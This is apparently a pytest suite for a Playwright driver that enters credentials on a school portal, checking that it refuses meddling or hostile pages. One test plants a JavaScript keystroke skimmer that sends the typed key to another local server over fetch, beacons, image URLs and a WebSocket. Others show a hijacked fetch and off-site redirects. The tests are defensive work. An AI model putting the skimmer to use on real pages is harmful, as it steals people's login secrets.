"""The browser driver on pages that JavaScript builds, on hostile ones, and on what must never happen."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime

import httpx
import pytest
from playwright.sync_api import Browser

from adapters.portal.browser.served import (
    BRISK,
    OFFICE_PASSWORD,
    SHELL,
    Scripted,
    Served,
    scripted_route,
    serving,
)
from adapters.portal.browser.served import portal as served_portal
from adapters.portal.home_made_portal import HomeMade, usual_route
from ssrcred.adapters.portal.browser.tab import Patience
from ssrcred.adapters.portal.map import PortalMap
from ssrcred.adapters.portal.route.route import Route
from ssrcred.adapters.portal.route_follower import ConfirmedPortal
from ssrcred.domain.credential import Credential, SecretKey
from ssrcred.domain.errors import LoginRefused, PageChanged, PageNotUnderstood
from ssrcred.domain.event import Outcome
from ssrcred.domain.place import DISTRICT, Saved, Took

pytestmark = [pytest.mark.real("chromium"), pytest.mark.filterwarnings("ignore::ResourceWarning")]

NOW = datetime(2025, 3, 4, 17, 30, tzinfo=UTC)
PAIR = Credential("MADEUP-NEW", SecretKey("made-up`'\"\\<&%+#$01"), NOW)
AFTER_FIELDS = """
const build = credentials;
credentials = async () => { await build(); const [user, key] = document.querySelectorAll("input"); %s };
"""


def portal(
    served: Served,
    chromium: Browser,
    *,
    password: str = OFFICE_PASSWORD,
    say: Callable[[str], None] | None = None,
    patience: Patience = BRISK,
    words: PortalMap | None = None,
    route: Route | None = None,
) -> ConfirmedPortal:
    usual = scripted_route(lambda: chromium) if isinstance(served.app, Scripted) else usual_route()
    return served_portal(
        served.url,
        route or usual,
        password=password,
        words=words,
        patience=patience,
        show=say is not None,
        say=say,
        launch=lambda: chromium,
    )


def write(app: Callable[[httpx.Request], httpx.Response], chromium: Browser, place: str = DISTRICT) -> Saved:
    with serving(app) as served, closing(portal(served, chromium)) as door:
        return door.write(place, PAIR)


def stopped(app: Callable[[httpx.Request], httpx.Response], chromium: Browser) -> str:
    with pytest.raises((PageNotUnderstood, PageChanged)) as caught:
        write(app, chromium)
    said = f"{caught.value.message} {caught.value.state}"
    assert PAIR.secret.reveal() not in said
    return said


def at_an_address(route: Route, address: str) -> Route:
    """The route with its settings at an address, without a way."""
    places = {name: replace(one, fields=replace(one.fields, way=())) for name, one in route.places.items()}
    groups = tuple(replace(one, fields=replace(one.fields, way=())) for one in route.groups)
    return replace(route, places=places, groups=groups, address=address)


def refuses_to_read(served: Served, chromium: Browser) -> None:
    with closing(portal(served, chromium)) as door, pytest.raises((PageNotUnderstood, PageChanged)):
        door.places()


def test_reads_and_writes_a_page_that_script_builds(chromium: Browser) -> None:
    app = Scripted()
    with serving(app) as served, closing(portal(served, chromium)) as door:
        readings = door.places()
        saved = door.write("North High", PAIR)
    assert [(item.place, item.username) for item in readings] == [(DISTRICT, "OLD"), ("North High", "")]
    assert saved.took is Took.CANNOT_BE_SEEN
    assert "says that it saved" in saved.detail
    sent = {"place": "North High", "user": PAIR.username, "key": PAIR.secret.reveal(), "note": " kept "}
    assert [one == sent for one in app.saves] == [True]
    assert app.log_ins == 1


def test_a_wrong_password_is_tried_once_on_a_page_that_script_builds(chromium: Browser) -> None:
    app = Scripted()
    with serving(app) as served, closing(portal(served, chromium, password="made-up and wrong")) as door:
        for _ in range(2):
            with pytest.raises(LoginRefused):
                door.places()
    assert app.log_ins == 1


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ('key.addEventListener("input", () => { key.value = key.value.slice(0, 16); })', "16 of 19 characters"),
        ('key.addEventListener("change", () => { key.value = key.value.toUpperCase(); })', "changed the key"),
        ('user.addEventListener("input", () => { user.value = "x"; })', "changed the text"),
        ('document.querySelector("button").addEventListener("click", () => {}); key.maxLength = 8', "at most 8"),
        ("user.readOnly = true", "change the field"),
        ('key.addEventListener("input", () => document.querySelector("button").remove())', "cannot be pressed"),
        ('document.querySelector("section").append(make("button", { textContent: "Save" }))', ""),
    ],
)
def test_stops_before_it_saves_when_the_page_meddles(chromium: Browser, script: str, words: str) -> None:
    app = Scripted(AFTER_FIELDS % script)
    if words:
        assert words in stopped(app, chromium)
        assert not app.saves
    else:
        assert write(app, chromium).took is Took.CANNOT_BE_SEEN


def test_a_question_before_the_save_is_answered_with_cancel(chromium: Browser) -> None:
    ask = 'const act = window.fetch; window.fetch = async (...given) => String(given[0]).includes("save")'
    app = Scripted(
        f'{ask} && !confirm("Change every school?") ? new Response("{{}}", {{status: 500}}) : act(...given);'
    )
    assert "Change every school?" in stopped(app, chromium)
    assert not app.saves


def test_what_a_page_tells_in_an_alert_does_not_stop_it(chromium: Browser) -> None:
    app = Scripted(AFTER_FIELDS % 'alert("Welcome"); window.onbeforeunload = () => true')
    assert write(app, chromium).took is Took.CANNOT_BE_SEEN


@pytest.mark.parametrize("status", [403, 500])
def test_a_save_by_script_that_is_refused_is_not_called_saved(chromium: Browser, status: int) -> None:
    def answering(request: httpx.Request) -> httpx.Response | None:
        return httpx.Response(status, json={}) if request.url.path == "/api/save" else None

    saved = write(Scripted(answering=answering), chromium)
    assert saved.took is Took.DID_NOT_TAKE
    assert not saved.answered


def test_a_save_by_script_whose_answer_is_lost_is_sent_once(chromium: Browser) -> None:
    asked = []

    def answering(request: httpx.Request) -> httpx.Response | None:
        if request.url.path != "/api/save":
            return None
        asked.append(request.url.path)
        raise httpx.ReadError("")

    saved = write(Scripted(answering=answering), chromium)
    assert (saved.answered, saved.took, len(asked)) == (False, Took.DID_NOT_TAKE, 1)


def test_nothing_typed_reaches_another_site(chromium: Browser) -> None:
    with serving(lambda request: httpx.Response(200, text="")) as other:
        steal = """key.addEventListener("input", () => {
            const k = key.value, there = "%s";
            fetch(there + "/fetch", { method: "POST", body: k, mode: "no-cors" }).catch(() => 0);
            navigator.sendBeacon(there + "/beacon", k);
            new Image().src = there + "/image?" + encodeURIComponent(k);
            new Image().src = there + "/later?" + btoa(k);
            new WebSocket(there.replace("http", "ws") + "/socket");
            open(there + "/popup?" + k);
            const frame = document.createElement("iframe"); frame.src = there + "/frame"; document.body.append(frame);
            fetch("/api/check", { method: "POST", body: k }).catch(() => 0);
            fetch("/api/check?k=" + encodeURIComponent(k)).catch(() => 0);
        })"""
        app = Scripted(AFTER_FIELDS % (steal % other.url))
        with serving(app) as served, closing(portal(served, chromium)) as door:
            with pytest.raises(PageNotUnderstood, match="before save was pressed"):
                door.write(DISTRICT, PAIR)
            checks = [path for _, path, _ in served.asked if path.startswith("/api/check")]
    assert not other.asked
    assert not checks and not app.saves


def test_looks_from_elsewhere_are_allowed_and_nothing_else(chromium: Browser) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, headers={"Content-Type": "text/javascript"}, text="window.made = true;")

    with serving(answer) as other:
        shell = SHELL.replace(
            "<div", f"<script src={other.url}/lib.js></script><iframe src={other.url}/f></iframe><div"
        )

        def answering(request: httpx.Request) -> httpx.Response | None:
            return httpx.Response(200, html=shell) if request.url.path == "/" else None

        assert write(Scripted(answering=answering), chromium).took is Took.CANNOT_BE_SEEN
    assert {(method, path) for method, path, _ in other.asked} == {("GET", "/lib.js")}


@pytest.mark.parametrize("way", ["redirect", "link", "form", "refresh"])
def test_never_follows_to_another_site(chromium: Browser, way: str) -> None:
    with serving(lambda request: httpx.Response(200, html="stolen")) as other:
        pages = {
            "link": {"/": f"<a href={other.url}/x>School Office Menu</a>"},
            "form": {"/": f"<form method=post action={other.url}/x><button>School Office Menu</button></form>"},
            "refresh": {"/": f"<meta http-equiv=refresh content='0; url={other.url}/x'>"},
            "redirect": {},
        }[way]

        def answering(request: httpx.Request, form: dict[str, str]) -> httpx.Response | None:
            gone = way == "redirect" and request.url.path == "/office"
            return httpx.Response(302, headers={"Location": f"{other.url}/x"}) if gone else None

        with serving(HomeMade(pages, answering)) as served:
            refuses_to_read(served, chromium)
    assert not other.asked


def test_redirects_end(chromium: Browser) -> None:
    def answering(request: httpx.Request, form: dict[str, str]) -> httpx.Response | None:
        return HomeMade.to("/office") if request.url.path == "/office" else None

    with serving(HomeMade(answering=answering)) as served:
        refuses_to_read(served, chromium)
    assert len([path for _, path, _ in served.asked if path == "/office"]) <= 7


def test_frames_popups_and_shadow_trees_are_part_of_what_is_seen(chromium: Browser) -> None:
    inner = "<template shadowrootmode=open><a href=/caaspp target=_blank>CAASPP Credentials</a></template>"
    pages = {
        "/options": "<iframe src=/inside width=400 height=300></iframe><iframe hidden src=/office></iframe>",
        "/inside": f"<svg aria-label=Picture></svg><details open><summary>More</summary><div>{inner}</div></details>",
    }
    app = HomeMade(pages)
    assert write(app, chromium).took is Took.CANNOT_BE_SEEN
    assert len(app.sent) == 1


@pytest.mark.parametrize("way", ["link", "address in the map"])
def test_a_page_at_a_fragment_is_fetched_anew_not_only_scrolled_to(chromium: Browser, way: str) -> None:
    # To go from an address to the same one with #fragment asks the server nothing: the window keeps what it shows.
    app, route = HomeMade({"/options": "<a href=/caaspp#pairs>CAASPP Credentials</a>"}), usual_route()
    if way != "link":
        route = at_an_address(route, "/caaspp#pairs")
    with serving(app) as served, closing(portal(served, chromium, route=route)) as door:
        assert [item.username for item in door.places()] == ["OLD", ""]
        app.pairs["North High"] = ("SOMEBODY", "made-up other key")
        with pytest.raises(PageNotUnderstood, match="has changed since it was read"):
            door.write("North High", PAIR)
        assert app.sent == []
        app.asked.clear()
        assert [item.username for item in door.places()] == ["OLD", "SOMEBODY"]
        assert ("GET", "/caaspp") in app.asked
        assert door.write("North High", PAIR).took is Took.CANNOT_BE_SEEN
        assert [form["user"] for form in app.sent] == [PAIR.username]


def test_a_form_keeps_every_other_field_and_blanks_a_school(chromium: Browser) -> None:
    app = HomeMade()
    with serving(app) as served, closing(portal(served, chromium)) as door:
        door.write("North High", PAIR)
        assert door.write("North High", None).took is Took.TOOK
    assert [one["note"] for one in app.sent] == [" kept ", " kept "]
    assert all(one["act"] == "save" for one in app.sent)


@pytest.mark.parametrize(
    ("answer", "outcome"),
    [
        (httpx.Response(200, headers={"Content-Type": "application/pdf"}, content=b"%PDF-1.7 made up %%EOF"), "proved"),
        (httpx.Response(200, html="<a href=/r.pdf>Score Report</a>"), "proved"),
        (httpx.Response(200, html="<p>The credentials are invalid.</p>"), "refused"),
        (
            httpx.Response(200, headers={"Content-Disposition": "attachment; filename=x.zip"}, content=b"x"),
            "not_understood",
        ),
    ],
)
@pytest.mark.parametrize("method", ["get", "post"])
def test_proves_through_the_button(chromium: Browser, answer: httpx.Response, outcome: str, method: str) -> None:
    def answering(request: httpx.Request, form: dict[str, str]) -> httpx.Response | None:
        if request.url.path == "/r.pdf":
            return httpx.Response(200, headers={"Content-Type": "application/pdf"}, content=b"%PDF-1.7 made up %%EOF")
        return answer if request.url.path == "/view" else None

    home = f"<form method={method} action=/view><button>View CAASPP/ELPAC</button></form>"
    with serving(HomeMade({"/": home}, answering)) as served, closing(portal(served, chromium)) as door:
        assert door.prove(DISTRICT).outcome is Outcome(outcome)


CODE = """<p>Enter the verification code that we sent.</p><form><input name=code></form>
<script>setTimeout(() => { location = "/" }, %d)</script>"""


class Stepped(HomeMade):
    """A portal that asks for a code after the log-in."""

    def __init__(self, wait_ms: int) -> None:
        super().__init__(answering=self.first)
        self.wait_ms = wait_ms

    def first(self, request: httpx.Request, form: dict[str, str]) -> httpx.Response | str | None:
        if request.url.path == "/login":
            self.sessions += 1
            self.session = f"s{self.sessions}"
            return self.to("/code", cookie=f"session={self.session}")
        return CODE % self.wait_ms if request.url.path == "/code" else None


def test_a_person_passes_a_further_step_and_the_tool_goes_on(chromium: Browser) -> None:
    app, said = Stepped(2_000), list[str]()
    with serving(app) as served, closing(portal(served, chromium, say=said.append)) as door:
        assert door.write(DISTRICT, PAIR).took is Took.CANNOT_BE_SEEN
    assert "another sign-in step" in said[0]
    assert app.sessions == 1


def test_a_further_step_that_nobody_passes_ends_the_visit(chromium: Browser) -> None:
    app, said = Stepped(60_000), list[str]()
    hasty = replace(BRISK, person_seconds=0.5)
    with serving(app) as served, closing(portal(served, chromium, say=said.append, patience=hasty)) as door:
        for _ in range(2):
            with pytest.raises(PageNotUnderstood):
                door.places()
    assert "too long" in said[-1]
    assert app.sessions == 1


def test_a_window_that_the_person_closes_is_not_waited_for(chromium: Browser) -> None:
    said = list[str]()

    def closing_it(text: str) -> None:
        said.append(text)
        if len(said) == 1:
            chromium.contexts[-1].pages[0].close()

    patient = replace(BRISK, person_seconds=600)
    app = Stepped(60_000)
    with serving(app) as served, closing(portal(served, chromium, say=closing_it, patience=patient)) as door:
        for _ in range(2):
            with pytest.raises(PageNotUnderstood):
                door.places()
    assert "was closed" in said[-1]
    assert app.sessions == 1


def test_a_further_step_without_a_person_stops(chromium: Browser) -> None:
    with serving(Stepped(60_000)) as served:
        refuses_to_read(served, chromium)


@pytest.mark.parametrize("shown", [True, False])
def test_another_sites_log_in_is_the_persons_and_only_in_a_window(chromium: Browser, shown: bool) -> None:
    app, said = HomeMade(), list[str]()
    with serving(app) as served:
        back = f"<script>setTimeout(() => {{ location = '{served.url}/back' }}, 1500)</script>"
        with serving(lambda request: httpx.Response(200, html=f"<p>Who are you?</p>{back}")) as other:

            def answering(request: httpx.Request, form: dict[str, str]) -> httpx.Response | None:
                if request.url.path == "/back":
                    app.session = "s1"
                    return app.to("/", cookie="session=s1")
                inside = "session=s1" in request.headers.get("cookie", "")
                return None if inside else httpx.Response(302, headers={"Location": f"{other.url}/sso"})

            app.answering = answering
            if shown:
                with closing(portal(served, chromium, say=said.append)) as door:
                    assert door.write(DISTRICT, PAIR).took is Took.CANNOT_BE_SEEN
                assert {path for _, path, _ in other.asked} <= {"/sso", "/favicon.ico"}
                assert PAIR.secret.reveal() not in repr(other.asked)
            else:
                refuses_to_read(served, chromium)
                assert not other.asked


@pytest.mark.parametrize("times", [1, 9])
def test_a_save_whose_next_page_is_lost_is_not_called_unsent(chromium: Browser, times: int) -> None:
    lost: list[str] = []

    def drop(request: httpx.Request, form: dict[str, str]) -> httpx.Response | None:
        if app.sent and request.url.path == "/caaspp" and len(lost) < times:
            lost.append(request.method)
            raise httpx.ReadError("dropped")
        return None

    app = HomeMade(answering=drop)
    saved = write(app, chromium)
    assert lost
    assert len(app.sent) == 1
    assert (saved.took, saved.answered) == (Took.CANNOT_BE_SEEN, False)
